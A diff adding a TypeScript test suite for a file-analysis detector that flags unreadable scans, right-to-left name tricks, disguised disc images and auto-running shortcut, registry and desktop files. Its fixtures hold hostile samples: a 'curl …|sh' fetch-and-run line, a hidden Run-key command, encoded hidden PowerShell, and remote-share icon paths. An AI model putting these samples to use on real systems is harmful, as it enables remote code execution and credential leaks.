@@ -1,0 +1,131 @@
+/** What nobody here reads is said so; what hides in a name, a shortcut or a register of settings is found there, and no more than that. */
+import { SignalValues } from '@goodstanding/model'
+import { strToU8, zipSync } from 'fflate'
+import { describe, expect, it } from 'vitest'
+import { analyseFile } from './analyse-file.ts'
+import { detectFile } from './detect-file.ts'
+import { wordsOfDocument } from './words/words-of-document.ts'
+
+const look = (name: string, bytes: Uint8Array | null) =>
+  analyseFile({ name, mediaType: null, size: null, sha256: null, bytes })
+
+const page = (content: string) =>
+  strToU8(
+    `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>\nendobj\n4 0 obj\n<</Length ${content.length}>>\nstream\n${content}\nendstream\nendobj\n`,
+  )
+const office = (part: string, name: string) =>
+  zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8(part), [name]: strToU8('GIF89a') })
+const SCAN = page('q 600 0 0 800 0 0 cm /Im0 Do Q')
+
+describe('a file of whose words none is read', () => {
+  it.each([
+    ['scan.pdf', SCAN, 'pages without letters'],
+    ['scan.docx', office('<w:p><w:drawing/></w:p>', 'word/media/image1.png'), 'pictures alone'],
+    ['papers.7z', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4), 'words within 7z'],
+  ])('says why: %s', (name, bytes, why) => {
+    const sink = new SignalValues()
+    detectFile(look(name, bytes), '/data/file', sink)
+    expect(sink.evidence('file.unread').map(({ value }) => value)).toEqual([why])
+  })
+  it.each([
+    ['letter.pdf', page('BT /F1 12 Tf (Minutes of Monday) Tj ET')],
+    ['letter.docx', office('<w:p><w:t>Minutes</w:t></w:p>', 'word/media/image1.png')],
+    ['pictures.zip', zipSync({ 'a.gif': strToU8('GIF89a') })],
+    ['note.txt', strToU8('Minutes')],
+  ])('is another than %s', (name, bytes) => {
+    expect(look(name, bytes).unread).toBeNull()
+  })
+})
+
+describe('a note in a tar that was packed whole', () => {
+  it.each([
+    [
+      'xz',
+      '/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4Cf/AHJdADcbyu7jSLGwl3Rxk6H0s6xr9zFffGRNkIjlCu1XMXH4qbzTz/AnerBBeVkKWwww95WylvfL9FZh6GKF4TVvNJOd7hEVZ7vHvk8/2FxM3UZzKD0eidER7morJF9FVrvGbX67zWpWhZ4oDGf5N0ldINuIAAAAAD2BmKuSDgPAAAGOAYBQAABOEGpbscRn+wIAAAAABFla',
+    ],
+    [
+      'bzip2',
+      'QlpoOTFBWSZTWQR9YTUAAHhfgMqQQAFNgAACAEB2Y95ACAggAHUQmp6QZA9QDamnlBJJGQGgGgAfd1DkIHTIQizpoEKWegQwMSKJOtfcyIMAhsQgWUx1SMXIMZLBaH1REOEbl7rO31nY3KTPnukg/F3JFOFCQBH1hNQ=',
+    ],
+  ])('is read: %s', (type, packed) => {
+    const bytes = new Uint8Array(Buffer.from(packed, 'base64'))
+    expect(wordsOfDocument(bytes, type)?.trim()).toBe('Meet me behind the depot')
+    expect(wordsOfDocument(bytes.subarray(0, 40), type)).toBeNull()
+  })
+})
+
+describe('direction marks in a name', () => {
+  it.each(['\u202bדוח\u202c.xlsx', '\u2068photo.jpg\u2069', 'ميزانية\u200f 2026.xlsx'])(
+    'hide nothing in %j',
+    (name) => {
+      expect(look(name, null).doubleExtension).toBeNull()
+    },
+  )
+  it.each(['\u2067photo\u2069.exe', 'photo\u202egpj.exe', 'photo\u202egpj.xlsx'])('hide what it is in %j', (name) => {
+    expect(look(name, null).doubleExtension).not.toBeNull()
+  })
+})
+
+describe('the picture of a disc', () => {
+  const disc = new Uint8Array(33_000)
+  disc.set(strToU8('CD001'), 32_769)
+  it('is none of a page', () => {
+    expect(look('scan.pdf', disc).typeMismatch).toBe('iso named .pdf')
+    for (const name of ['setup.iso', 'setup.img', 'setup']) expect(look(name, disc).typeMismatch).toBeNull()
+  })
+})
+
+describe('what a double click reads', () => {
+  const scriptOf = (name: string, text: string | Uint8Array): boolean => {
+    const sink = new SignalValues()
+    detectFile(look(name, typeof text === 'string' ? strToU8(text) : text), '/data/file', sink)
+    return sink.value('file.script-content') > 0
+  }
+  const wide = (text: string) => Uint8Array.from(Buffer.from(text, 'utf16le'))
+  const LINK = Uint8Array.of(
+    0x4c,
+    0,
+    0,
+    0,
+    1,
+    0x14,
+    2,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0xc0,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0x46,
+    ...new Uint8Array(56),
+  )
+  const link = (command: string) => Uint8Array.from([...LINK, ...wide(command)])
+  const RUN = '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]'
+  it.each([
+    ['a.reg', `Windows Registry Editor Version 5.00\r\n\r\n${RUN}\r\n"u"="cmd /c start -w hidden a"\r\n`],
+    ['a.desktop', '[Desktop Entry]\nExec=sh -c "curl http://198.51.100.2/a|sh"\n'],
+    ['a.lnk', link('%SystemRoot%\\cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A')],
+    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.2\\s\\x.ico\r\n'],
+    ['a.library-ms', '<libraryDescription><url>\\\\198.51.100.2\\share</url></libraryDescription>'],
+  ])('acts in %s', (name, text) => {
+    expect(scriptOf(name, text)).toBe(true)
+  })
+  it.each([
+    [
+      'a.reg',
+      `Windows Registry Editor Version 5.00\r\n\r\n${RUN}\r\n"chat"="C:\\\\Program Files\\\\Chat\\\\chat.exe"\r\n`,
+    ],
+    ['a.desktop', '[Desktop Entry]\nType=Application\nExec=gedit %U\n'],
+    ['a.lnk', link('C:\\Program Files\\Chat\\chat.exe')],
+    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n'],
+    ['a.library-ms', '<libraryDescription><url>knownfolder:{FDD39AD0}</url></libraryDescription>'],
+  ])('does not in %s', (name, text) => {
+    expect(scriptOf(name, text)).toBe(false)
+  })
+})
